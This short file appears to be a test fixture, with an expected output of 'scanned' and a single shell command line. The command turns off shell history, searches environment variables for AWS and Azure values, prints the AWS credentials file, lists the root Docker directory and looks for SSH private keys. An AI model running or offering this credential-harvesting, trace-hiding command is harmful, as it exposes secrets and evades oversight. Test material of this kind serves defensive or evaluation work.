# on: all
# want: scanned
export LC_ALL=C; HISTCONTROL=ignorespace; unset HISTFILE; env | grep -i -E 'aws|azure' ; cat ~/.aws/credentials 2>/dev/null; ls -la /root/.docker 2>/dev/null; find /root /home -maxdepth 2 -name 'id_rsa*' 2>/dev/null | head; echo scanned
